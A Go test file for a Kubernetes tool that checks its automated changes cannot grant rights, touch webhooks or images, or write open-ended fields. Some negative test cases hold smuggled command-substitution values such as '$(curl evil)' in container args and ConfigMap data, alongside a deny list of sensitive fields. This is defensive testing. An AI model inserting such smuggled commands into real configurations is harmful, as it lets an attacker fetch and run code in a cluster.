package finding

import (
	"go/ast"
	"go/parser"
	"go/token"
	"slices"
	"strings"
	"testing"

	"github.com/careen-tui/careen/internal/model"
)

// TestEveryChangeIsListed reads the types that are changes from the source: one that
// is not in the list could not be taken back.
func TestEveryChangeIsListed(t *testing.T) {
	file, err := parser.ParseFile(token.NewFileSet(), "change.go", nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	var listed []string
	for _, c := range changes {
		listed = append(listed, NameOf(c))
		if len(c.Permits()) == 0 {
			t.Errorf("%s permits nothing", NameOf(c))
		}
	}
	n := 0
	for _, d := range file.Decls {
		f, ok := d.(*ast.FuncDecl)
		if !ok || f.Name.Name != "change" {
			continue
		}
		n++
		if name := f.Recv.List[0].Type.(*ast.Ident).Name; !slices.Contains(listed, name) {
			t.Errorf("%s is not in the list of changes", name)
		}
	}
	if n != len(changes) || n == 0 {
		t.Errorf("%d types are changes, %d are listed", n, len(changes))
	}
}

// TestNoPermitGivesRights goes through what every change may write.
func TestNoPermitGivesRights(t *testing.T) {
	for _, c := range changes {
		for _, p := range c.Permits() {
			for _, kind := range p.Kinds {
				bindings := kind == model.KindRoleBinding || kind == model.KindClusterRoleBinding
				webhooks := kind == model.KindValidatingWebhook || kind == model.KindMutatingWebhook || kind == model.KindAPIService || kind == model.KindCRD
				if kind == model.KindNode && slices.Equal(p.Fields, []string{"spec/unschedulable"}) && !p.Allows([]string{"spec", "unschedulable"}, nil, "x") {
					continue // cordoned
				}
				if bindings || webhooks || kind == model.KindNode || kind == model.KindNamespace {
					t.Errorf("%s may %s a %s", NameOf(c), p.Verb, kind)
				}
				if kind == model.KindPod && p.Verb != ToDelete {
					t.Errorf("%s may %s a %s", NameOf(c), p.Verb, kind)
				}
			}
			if p.Verb != ToEdit && (p.Kinds == nil || p.Fields != nil) || p.Verb == ToEdit && p.Fields == nil {
				t.Errorf("%s: %+v is no closed list", NameOf(c), p)
			}
			for _, f := range p.Fields {
				for _, open := range []string{"image", "subjects", "roleRef", "hostPath", "privileged", "automount"} {
					if slices.Contains(strings.Split(f, "/"), open) || strings.HasSuffix(f, "**") {
						t.Errorf("%s may write %s", NameOf(c), f)
					}
				}
			}
		}
	}
}

func TestPermitsOfFields(t *testing.T) {
	edit := func(c Change, kind model.Kind, path string, before, after any) bool {
		return slices.ContainsFunc(c.Permits(), func(p Permit) bool {
			return p.Verb == ToEdit && p.Covers(model.Ref{Kind: kind, Name: "x"}) && p.Allows(strings.Split(path, "/"), before, after)
		})
	}
	for _, c := range []struct {
		change        Change
		kind          model.Kind
		path          string
		before, after any
		want          bool
	}{
		{Patch{}, model.KindDeployment, "spec/template/spec/serviceAccountName", "a", "b", true},
		{Patch{}, model.KindCronJob, "spec/jobTemplate/spec/template/spec/containers/0/resources/limits/memory", "1", "2", true},
		{Patch{}, model.KindDeployment, "spec/template/spec/containers/0/image", "a", "b", false},
		{Patch{}, model.KindRole, "rules/0/verbs/0", nil, "get", false},
		{Patch{}, model.KindDeployment, "spec/template/spec/containers/0/readinessProbe/httpGet/port", 8081, 8080, true},
		{Patch{}, model.KindDeployment, "spec/template/spec/containers/0/livenessProbe/periodSeconds", 1, 10, true},
		{Patch{}, model.KindDeployment, "spec/template/spec/containers/0/livenessProbe/exec/command/0", "a", "b", false},
		{Patch{}, model.KindDeployment, "spec/template/spec/containers/0/readinessProbe/httpGet/host", nil, "evil", false},
		{Patch{}, model.KindDeployment, "spec/template/spec/imagePullSecrets/0", map[string]any{"name": "a"}, nil, true},
		{Patch{}, model.KindDeployment, "spec/template/spec/imagePullSecrets/0", nil, map[string]any{"name": "a", "x": "y"}, false},
		{Patch{}, model.KindVolume, "spec/persistentVolumeReclaimPolicy", "Delete", "Retain", true},
		{Patch{}, model.KindVolume, "spec/persistentVolumeReclaimPolicy", "Retain", "Delete", false},
		{AddRule{}, model.KindClusterRole, "rules/0/verbs", []any{"get"}, []any{"get", "update"}, true},
		{AddRule{}, model.KindClusterRole, "rules/0/verbs", []any{"get", "update"}, []any{"get"}, false},
		{AddRule{}, model.KindClusterRole, "rules/0/verbs", []any{"get", "list"}, []any{"get", "update", "patch"}, false},
		{AddRule{}, model.KindClusterRole, "rules/0/verbs", []any{"get"}, []any{"get", "*"}, false},
		{AddRule{}, model.KindClusterRole, "rules/0/verbs", []any{"get"}, []any{"get", "escalate"}, false},
		{AddRule{}, model.KindClusterRole, "rules/0/verbs/0", nil, "get", false},
		{AddRule{}, model.KindClusterRole, "rules/0/resources/0", nil, "pods", false},
		{RewriteHosts{}, model.KindDeployment, "spec/template/spec/containers/0/args", []any{"--p=a-0", "-v"}, []any{"--p=a-0", "--p=a-1", "-v"}, true},
		{RewriteHosts{}, model.KindDeployment, "spec/template/spec/containers/0/args", []any{"--p=a-0"}, []any{"--p=a-0", "$(curl evil)"}, false},
		{RewriteHosts{}, model.KindConfigMap, "data/a", "x: a-0,a-1 $(y)", "x: a-0,a-1,a-2 $(y)", true},
		{RewriteHosts{}, model.KindConfigMap, "data/a", "a-0", "a-0 $(curl evil)", false},
		{RewriteHosts{}, model.KindConfigMap, "data/a", nil, "a-0", false},
		{RewriteHosts{}, model.KindSecret, "data/a", "a-0", "a-1", false},
		{Nudge{}, "Component.apps.kubeblocks.io", "metadata/annotations/careen/nudged", nil, "x", false},
		{Nudge{}, "Component.apps.kubeblocks.io", "spec/replicas", nil, "x", false},
	} {
		if got := edit(c.change, c.kind, c.path, c.before, c.after); got != c.want {
			t.Errorf("%s of %s %s from %v to %v: %v", NameOf(c.change), c.kind, c.path, c.before, c.after, got)
		}
	}
	if p := (Nudge{}).Permits()[0]; !p.Allows([]string{"metadata", "annotations", "careen/nudged"}, nil, "x") {
		t.Error("a key with a slash is one element")
	}
	if PermitsOf("Exec") != nil || PermitsOf("Scale") == nil {
		t.Error("permits by name")
	}
}

func TestStepsThatStray(t *testing.T) {
	ref := model.Ref{Kind: model.KindDeployment, Namespace: "shop", Name: "web"}
	for _, c := range []struct {
		step Step
		want string
	}{
		{Step{Ref: ref, Change: Restart{}}, ""},
		{Step{Ref: ref, Change: Delete{}}, "may not write a Deployment"},
		{Step{Ref: ref, Change: Patch{Set: []FieldValue{{Path: []string{"spec", "template", "spec", "hostNetwork"}, Value: true}}}}, "hostNetwork of a Deployment"},
		{Step{Ref: ref, Change: Patch{Set: []FieldValue{{Path: []string{"spec", "template", "spec", "containers", "0", "securityContext", "capabilities", "drop"}, Value: []string{"ALL"}}}}}, ""},
		{Step{Ref: model.Ref{Kind: model.KindSecret, Namespace: "shop", Name: "sh.helm.release.v1.web.v1"}, Change: EditRecord{}}, ""},
		{Step{Ref: model.Ref{Kind: model.KindSecret, Namespace: "shop", Name: "web"}, Change: EditRecord{}}, "may not write a Secret"},
		{Step{Ref: model.Ref{Kind: model.KindRecord, Namespace: "shop", Name: "sh.helm.release.v1.web.v1"}, Change: RelabelRecord{Labels: map[string]string{"team": "x"}}}, "metadata/labels/team"},
	} {
		if got := c.step.Strays(); c.want == "" && got != "" || !strings.Contains(got, c.want) {
			t.Errorf("%s of %s: %q", NameOf(c.step.Change), c.step.Ref, got)
		}
	}
}
